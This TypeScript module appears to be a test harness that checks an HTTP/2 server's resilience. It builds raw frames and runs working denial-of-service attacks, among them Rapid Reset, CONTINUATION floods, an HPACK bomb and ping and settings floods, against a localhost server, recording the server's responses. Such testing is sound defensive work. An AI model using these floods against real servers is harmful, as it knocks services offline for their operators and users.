import { once } from "node:events";
import { constants } from "node:http2";
import tls, { type TLSSocket } from "node:tls";

/** Frame types and flags of HTTP/2 (RFC 9113, section 6). */
const type = {
  data: 0,
  headers: 1,
  rstStream: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  windowUpdate: 8,
  continuation: 9,
} as const;
const endStream = 0x1;
const endHeaders = 0x4;

function frame(kind: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(kind, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

function setting(id: number, value: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value, 2);
  return payload;
}

function number(value: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(value);
  return payload;
}

/** A literal that is not put into the dynamic table (RFC 7541, section 6.2.2), its strings as they are. */
function literal(name: string, value: string, indexed = false): Buffer {
  return Buffer.concat([Buffer.from([indexed ? 0x40 : 0x00]), text(name), text(value)]);
}

function text(value: string): Buffer {
  const bytes = Buffer.from(value, "latin1");
  return Buffer.concat([integer(bytes.length), bytes]);
}

/** With a prefix of seven bits (RFC 7541, section 5.1). */
function integer(value: number): Buffer {
  if (value < 127) {
    return Buffer.from([value]);
  }
  const bytes = [127];
  let rest = value - 127;
  for (; rest >= 128; rest = Math.floor(rest / 128)) {
    bytes.push((rest % 128) + 128);
  }
  return Buffer.from([...bytes, rest]);
}

/** GET / over https, from the static table: method 2, path 4, scheme 7. */
const getRequest = Buffer.concat([Buffer.from([0x82, 0x84, 0x87]), literal(":authority", "localhost")]);

/** The frames of an attack, in pieces of a size that a client would write at once. */
export type Attack = Iterable<Buffer>;

/** Ways to make a server work, or keep something, for little of one's own; each goes on as long as it is let. */
export const attacks = {
  "opens and resets streams (rapid reset, CVE-2023-44487)": function* () {
    for (let stream = 1; stream < 2_000_000; stream += 2) {
      yield Buffer.concat([
        frame(type.headers, endHeaders | endStream, stream, getRequest),
        frame(type.rstStream, 0, stream, number(constants.NGHTTP2_CANCEL)),
      ]);
    }
  },
  "never ends a head (CONTINUATION flood, CVE-2024-27316)": function* () {
    yield frame(type.headers, endStream, 1, getRequest);
    for (let count = 0; count < 1_000_000; count++) {
      yield frame(type.continuation, 0, 1, literal(`x-${count}`, "y".repeat(100)));
    }
  },
  "sends CONTINUATION frames without a byte": function* () {
    yield frame(type.headers, endStream, 1, getRequest);
    for (let count = 0; count < 1_000_000; count++) {
      yield frame(type.continuation, 0, 1);
    }
  },
  "names a large header again and again (HPACK bomb, CVE-2016-6581)": function* () {
    const entry = literal("x-bomb", "b".repeat(4_000), true);
    yield frame(type.headers, endHeaders | endStream, 1, Buffer.concat([getRequest, entry]));
    // The newest entry of the dynamic table has index 62; `:authority` is not put there.
    const references = Buffer.alloc(16_000, 0x80 | 62);
    for (let stream = 3; stream < 2_000_000; stream += 2) {
      yield frame(type.headers, endHeaders | endStream, stream, Buffer.concat([getRequest, references]));
    }
  },
  "changes its settings again and again (CVE-2019-9515)": function* () {
    const change = frame(type.settings, 0, 0, setting(4, 65_535));
    for (let count = 0; count < 1_000_000; count++) {
      yield change;
    }
  },
  "pings again and again (CVE-2019-9512)": function* () {
    const ping = frame(type.ping, 0, 0, Buffer.alloc(8));
    for (let count = 0; count < 1_000_000; count++) {
      yield ping;
    }
  },
  "sends DATA frames without a byte (CVE-2019-9518)": function* () {
    yield frame(
      type.headers,
      endHeaders,
      1,
      Buffer.concat([Buffer.from([0x83, 0x84, 0x87]), literal(":authority", "localhost")]),
    );
    for (let count = 0; count < 1_000_000; count++) {
      yield frame(type.data, 0, 1);
    }
  },
  "opens its windows and asks for nothing (WINDOW_UPDATE flood)": function* () {
    const update = frame(type.windowUpdate, 0, 0, number(1));
    for (let count = 0; count < 1_000_000; count++) {
      yield update;
    }
  },
} as const satisfies Record<string, () => Attack>;

/** Asks for a page on as many streams as a connection may have, and never opens their windows. */
export async function stallWindows({ port, ca }: { port: number; ca: string }): Promise<TLSSocket> {
  const socket = await connectRaw(port, ca, setting(constants.NGHTTP2_SETTINGS_INITIAL_WINDOW_SIZE, 0));
  const requests = Array.from({ length: 128 }, (_, index) =>
    frame(type.headers, endHeaders | endStream, 2 * index + 1, getRequest),
  );
  socket.write(Buffer.concat(requests));
  return socket;
}

/** What became of an attack. */
export interface AttackOutcome {
  sentBytes: number;
  /** The error code of the server's GOAWAY; undefined where it just closed the connection. */
  goawayCode: number | undefined;
  /** Whether it ended the connection, or would have read on. */
  ended: boolean;
}

/**
 * Carries out an attack on a connection of its own, until the server ends that or so many bytes are sent.
 *
 * @param reads whether the client reads what the server sends
 */
export async function attackHttp2(
  { port, ca }: { port: number; ca: string },
  attack: Attack,
  { mostBytes, reads }: { mostBytes: number; reads: boolean },
): Promise<AttackOutcome> {
  const socket = await connectRaw(port, ca);
  const received: Buffer[] = [];
  if (reads) {
    socket.on("data", (chunk) => received.push(chunk));
  }
  let ended = false;
  socket.once("close", () => {
    ended = true;
  });
  let sentBytes = 0;
  let batch: Buffer[] = [];
  for (const bytes of attack) {
    if (ended || sentBytes >= mostBytes) {
      break;
    }
    batch.push(bytes);
    sentBytes += bytes.length;
    if (batch.length === 100) {
      const goesOn = socket.write(Buffer.concat(batch));
      batch = [];
      await (goesOn ? new Promise((resolve) => setImmediate(resolve)) : drainedOrClosed(socket));
    }
  }
  const outcome = { sentBytes, ended, goawayCode: goawayCodeIn(Buffer.concat(received)) };
  socket.destroy();
  return outcome;
}

function drainedOrClosed(socket: TLSSocket): Promise<void> {
  return new Promise((resolve) => {
    socket.once("drain", resolve);
    socket.once("close", () => resolve());
  });
}

/** A connection that has said SETTINGS, and whose errors are told by its close. */
async function connectRaw(port: number, ca: string, ...settings: Buffer[]): Promise<TLSSocket> {
  const socket = tls.connect({ port, host: "127.0.0.1", servername: "localhost", ca, ALPNProtocols: ["h2"] });
  socket.on("error", () => {});
  await once(socket, "secureConnect");
  socket.write(
    Buffer.concat([
      Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
      frame(type.settings, 0, 0, Buffer.concat(settings)),
    ]),
  );
  return socket;
}

function goawayCodeIn(bytes: Buffer): number | undefined {
  for (let at = 0; at + 9 <= bytes.length; ) {
    const length = bytes.readUIntBE(at, 3);
    if (bytes.readUInt8(at + 3) === type.goaway && at + 17 <= bytes.length) {
      return bytes.readUInt32BE(at + 13);
    }
    at += 9 + length;
  }
  return undefined;
}
